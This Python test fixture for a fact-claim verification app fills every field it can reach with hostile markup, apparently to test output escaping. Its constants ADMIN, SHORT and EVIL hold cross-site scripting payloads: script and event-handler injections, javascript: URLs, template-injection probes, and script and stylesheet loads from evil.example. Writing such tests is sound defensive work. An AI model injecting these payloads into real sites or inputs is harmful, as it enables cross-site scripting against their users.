"""A store in which every text a person or an article can bring is hostile markup."""

from __future__ import annotations

from verifier.config import Settings
from verifier.services.build_report import freeze_report
from verifier.services.claim_care import add_contact
from verifier.services.correct_claims import correct
from verifier.services.decide import decide, verify
from verifier.services.desk_work import add_comment, assign
from verifier.services.ingest_documents import ingest_record
from verifier.services.list_stored import list_claims, list_disputes, list_findings, list_pairs
from verifier.services.manage_tokens import add_token
from verifier.services.manage_users import add_user
from verifier.services.open_store import now
from verifier.services.pair_claims import pair_claims
from verifier.services.publish_report import publish_report
from verifier.services.report_subject import Subject
from verifier.services.saved_views import save_view

PHRASE = "seven green lanterns"
ADMIN = "<b onmouseover=alert(7)>admin"
SHORT = '"><img src=//evil.example/i onerror=alert(2)>'
EVIL = (
    f"{SHORT}<script>alert(1)</script><script src=http://evil.example/s.js></script>"
    "<svg onload=alert(3)><iframe srcdoc='<script>alert(4)</script>'></iframe></style></title></textarea>"
    "<link rel=stylesheet href=http://evil.example/c.css><style>@import 'http://evil.example/d.css';</style>"
    "' onfocus='alert(5)' autofocus='{{7*7}}${7*7} [x](javascript:alert(6)) ![x](http://evil.example/p.png) -->]]>"
)


def fill(settings: Settings) -> list[str]:
    """Fill the store through the services; the uids of the reports made. The admin is ``ADMIN``."""
    add_user(settings, ADMIN, "admin", PHRASE)
    claims, disputes = _take_in(settings), list_disputes(settings)
    targets = [*list_pairs(settings), *list_findings(settings), *disputes]
    assert claims
    assert disputes
    assert list_findings(settings)
    for claim in claims:
        verify(settings, claim["uid"], content="verified", note=EVIL, evidence=[EVIL, f"http://evil.example/{SHORT}"])
        add_comment(settings, claim["uid"], EVIL, ADMIN)
        add_contact(settings, claim["uid"], SHORT, now().date(), EVIL, ADMIN)
    for target in targets:
        add_comment(settings, target["uid"], EVIL, ADMIN)
    decide(settings, targets[0]["uid"], "unsure", EVIL, ADMIN)
    decide(settings, disputes[0]["uid"], "open", EVIL, ADMIN)
    assign(settings, [targets[0]["uid"]], ADMIN)
    save_view(settings, SHORT, {"claimant": SHORT}, ADMIN)
    add_token(settings, ADMIN, SHORT, "read", 1)
    document = claims[0]["document"]
    subjects = (Subject("dispute", disputes[0]["uid"]), Subject("document", document), Subject())
    reports = [freeze_report(settings, subject, ADMIN).uid for subject in subjects]
    for report in reports:
        publish_report(settings, report, EVIL, ADMIN)
    return reports


def _take_in(settings: Settings) -> list[dict[str, str]]:
    """Two articles of one event with other numbers, and a claim corrected; their claims."""
    for number, (who, count) in enumerate((("union", 65), ("mayor", 40))):
        text = (
            f"Harbour fire: {count + 2} hurt {SHORT}\n\n"
            f"The {who} of Porto said {count} people were hurt in a fire in Porto on Monday 3 March 2025. {EVIL}\n"
            f"{EVIL} said that {count} people were hurt in a fire in Porto on Monday.\n"
            f"The {who} denied that the {SHORT} alarm in Porto had failed.\n"
            f"“{EVIL} It burns,” {SHORT} told the {who}.\n"
        )
        url = f"javascript:alert({number})//{EVIL}"
        record = {"name": f"{number}{EVIL}", "text": text, "published": "2025-03-04", "outlet": EVIL, "url": url}
        made = ingest_record(settings, record)
        assert made.status == "new", made.reason
    correct(settings, list_claims(settings)[0]["uid"], {"claimant": SHORT}, reason=EVIL, user=ADMIN)
    pair_claims(settings)
    return list_claims(settings)
